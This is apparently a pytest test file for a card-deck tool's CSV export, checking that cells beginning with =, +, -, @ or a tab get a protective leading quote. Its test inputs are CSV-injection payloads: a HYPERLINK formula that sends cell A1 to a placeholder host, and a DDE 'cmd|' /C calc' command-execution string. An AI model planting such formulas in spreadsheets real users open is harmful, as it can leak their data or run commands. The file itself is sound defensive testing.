"""Issue 20 section 1: `--format csv` never hands a spreadsheet a formula (CSV injection).

Cards imported from someone else's list may be named `=HYPERLINK(...)`, `+SUM(...)`, `-2+3`,
`@SUM(...)` or carry a leading tab. Every CSV zxdeck prints (search of both games, sim and
tournament) writes such a text cell with a leading `'` (OWASP), through zxdeck.csvsafe, after
the importer's normalization (which strips a leading tab), so nothing removes the prefix.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from cli_main import run_main as zx

from zxdeck.csvsafe import FORMULA_START, safe_cell, writer

ROOT = Path(__file__).resolve().parents[2]
EVIL = ["=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def private_cache(tmp_path, monkeypatch):
    monkeypatch.setenv("ZXDECK_CACHE_DIR", str(tmp_path / "cache"))
    monkeypatch.delenv("ZXDECK_CARDS", raising=False)
    monkeypatch.delenv("ZXDECK_MOZ_CARDS", raising=False)




def no_formula(cells: list[str]) -> None:
    for cell in cells:
        assert not cell.startswith(FORMULA_START), repr(cell)


def test_safe_cell_prefixes_formula_text_only() -> None:
    for text in EVIL:
        assert safe_cell(text) == "'" + text
    for text in ("蒼穹機神", "A=1", "", "'=already text", "ZX01-001"):
        assert safe_cell(text) == text
    assert safe_cell(-3) == -3 and safe_cell(-0.5) == -0.5 and safe_cell(None) is None
    buf = io.StringIO()
    writer(buf, lineterminator="\n").writerows([["=1", 2], ["ok", "@x"]])
    assert list(csv.reader(io.StringIO(buf.getvalue()))) == [["'=1", "2"], ["ok", "'@x"]]


def test_imported_formula_cards_come_out_of_search_csv_as_text(tmp_path) -> None:
    """A crafted card list: names, English names, races and text that are formulas (one with a
    protective leading tab, which the importer's normalization strips); imported, then searched
    with --format csv: every cell that a spreadsheet would run starts with '."""
    rows = [["id", "name", "name_en", "type", "color", "cost", "power", "races", "text"]]
    for n, evil in enumerate(EVIL, 1):
        rows.append([f"B09-{n:03d}", evil if n != 1 else f"悪い名前{n}", evil, "zx", "red", "1", "1000",
                     evil, evil])
    rows[1][1] = EVIL[0]
    src = tmp_path / "evil.csv"
    with src.open("w", encoding="utf-8", newline="") as f:
        csv.writer(f).writerows(rows)
    out = tmp_path / "evil.yaml"
    code, _, err = zx("catalog", "import", str(src), "-o", str(out))
    assert code == 0, err
    code, text, err = zx("--cards", str(out), "search", "id:B09", "--format", "csv")
    assert code == 0, err
    table = list(csv.reader(io.StringIO(text)))
    assert len(table) == 1 + len(EVIL), text
    for row in table[1:]:
        no_formula(row)
    names = {row[table[0].index("name")] for row in table[1:]}
    assert "'" + EVIL[0] in names and "'=1+1" in names  # the tab stripped on import: still text


def test_moz_search_csv_is_text_too(tmp_path) -> None:
    fixture = (ROOT / "tests" / "moz" / "fixtures" / "cards.yaml").read_text(encoding="utf-8")
    cards = tmp_path / "moz.yaml"
    cards.write_text(fixture.replace("name: 貝の巫女", "name: '=HYPERLINK(\"x\")'", 1)
                     .replace("name: 炎の剣士", "name: '@SUM(A1)'", 1), encoding="utf-8")
    code, text, err = zx("--game", "moz", "--cards", str(cards), "search", "t:summoner", "--format", "csv")
    assert code == 0, err
    table = list(csv.reader(io.StringIO(text)))
    for row in table[1:]:
        no_formula(row)
    names = [row[2] for row in table[1:]]
    assert "'=HYPERLINK(\"x\")" in names and "'@SUM(A1)" in names


def test_sim_and_tournament_csv_use_the_same_helper() -> None:
    from zxdeck.sim.report import games_csv, tournament_csv

    result = {"entrants": ["=cmd|'/C calc'!A0", "+deck"], "matrix": [[None, 0.5], [0.5, None]],
              "intervals": [[None, (0.1, 0.9)], [(0.1, 0.9), None]], "games": [[0, 2], [2, 0]]}
    table = list(csv.reader(io.StringIO(tournament_csv(result))))
    assert table[1][:2] == ["'=cmd|'/C calc'!A0", "'+deck"]
    for row in table:
        no_formula(row)
    games = games_csv([{"index": 0, "seed": 1, "seats": ["a", "b"], "first": "a", "winner": "b",
                        "reason": "-life", "turns": 3, "decisions": 9, "match": "@m"}], match=True)
    rows = list(csv.reader(io.StringIO(games)))
    assert rows[1][0] == "'@m" and rows[1][6] == "'-life"


def test_card_statistics_and_gauntlet_csv_are_text_too() -> None:
    """--card-stats and gauntlet --format csv: a card or deck name from someone else's file
    (an imported catalog, a field file) comes out as text."""
    from zxdeck.analysis.cards import card_stats_csv
    from zxdeck.analysis.field import gauntlet_csv

    side = {"games": 1, "win_rate": 1.0, "interval": [0.2, 1.0]}
    decks = [{"deck": "+deck", "cards": [{"card": "=HYPERLINK(\"x\")", "copies": 4, "drawn": side,
                                          "played": side, "not_drawn": side, "improvement": 0.0,
                                          "improvement_interval": [-0.5, 0.5], "mean_turn_drawn": 1.0,
                                          "mean_turn_played": 2.0}]}]
    rows = list(csv.reader(io.StringIO(card_stats_csv(decks))))
    assert rows[1][:2] == ["'+deck", "'=HYPERLINK(\"x\")"]
    field = {"field": [{"deck": "@SUM(A1)", "share": 0.5, "games": 2, "win_rate": 0.5,
                        "interval": (0.1, 0.9)}], "interval": (0.1, 0.9), "games": 2, "win_rate": 0.5}
    rows = list(csv.reader(io.StringIO(gauntlet_csv(field))))
    assert rows[1][0] == "'@SUM(A1)"
    for row in rows:
        no_formula(row)
